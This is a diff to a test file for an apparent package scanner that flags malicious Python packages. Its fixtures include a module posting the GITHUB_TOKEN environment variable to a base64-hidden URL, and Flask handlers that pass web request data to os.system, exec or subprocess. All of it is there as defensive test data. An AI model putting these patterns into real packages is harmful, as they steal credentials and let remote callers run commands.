@@ -205,6 +205,14 @@ test('obfuscation twins: a rot13 codec, a marshalled data table, a decoded-name 
   for (const x of PYPI22_OBFUSCATION_TWINS) await honest(x);
 });
 
+test('a destination only decoding reveals is never the package own host: a token sent to its namesake site, base64-encoded', async () => {
+  const send = (url: string) =>
+    sdist('ghstats', { 'ghstats/__init__.py': `import base64, os, requests\n\n_U = ${url}\nrequests.post(_U, json={'t': os.environ.get('GITHUB_TOKEN')})\n` });
+  // Written plainly, the site named exactly after the package is its own service (LOW); hidden in base64, it is not.
+  await honest(send("'https://ghstats.example/api/v1/sync'"));
+  await blocked(send("base64.b64decode('aHR0cHM6Ly9naHN0YXRzLmV4YW1wbGUvYXBpL3YxL3N5bmM=').decode()"), 'service_token_foreign_host');
+});
+
 // ---- D. a downloaded module imported -----------------------------------------------------------------------
 
 test('a downloaded module imported (importlib file loader, sys.path + import_module, ModuleType + exec) is BLOCKED', async () => {
@@ -277,7 +285,7 @@ test('second pass: a push through GitPython, a function made by type(lambda), a 
 
 // ---- request_command_exec and key_param_exfil (HIGH in runtime code: kept, with a narrower command) -------------
 
-test('a command or code taken from a web request is BLOCKED in runtime code: the whole command, a shell -c, an argv list', async () => {
+test('a command or code taken from a web request is BLOCKED in runtime code: the whole command, a shell -c, an argv list, request.get_data()', async () => {
   let n = 0;
   const app = (body: string) => sdist(`webhook-${++n}`, { 'webhook_x/app.py': `import os, subprocess\nfrom flask import Flask, request\n\napp = Flask(__name__)\n\n\n@app.post('/x')\ndef x():\n    ${body}\n    return 'ok'\n` });
   await blocked(app("os.system(request.headers.get('X-Run'))"), 'request_command_exec');
@@ -286,13 +294,16 @@ test('a command or code taken from a web request is BLOCKED in runtime code: the
   await blocked(app("exec(request.get_data(as_text=True))"), 'request_command_exec');
 });
 
-test('a request choosing among fixed commands, a request value as an argument of a fixed program, an API key to its service: not blocked', async () => {
+test('a request choosing among a literal table of commands, an API key sent to its service by name: not blocked', async () => {
   for (const x of PYPI22_RULE3_TWINS) await honest(x);
-  await honest(
+  // A request value handed to a fixed program as an argument still counts (an argument can carry a command:
+  // `find -exec`, `awk`, a downloader's URL): a git web viewer passing a path from the query is BLOCKED.
+  const r = await rate(
     sdist('gitweb-lite', {
       'gitweb_lite/app.py': "import subprocess\nfrom flask import Flask, request\n\napp = Flask(__name__)\n\n\n@app.get('/log')\ndef log():\n    return subprocess.run(['git', 'log', '--oneline', '--', request.args.get('path', '.')], capture_output=True, text=True).stdout\n",
     }),
   );
+  assert.is(r.level, 'BLOCKED');
 });
 
 test.run();
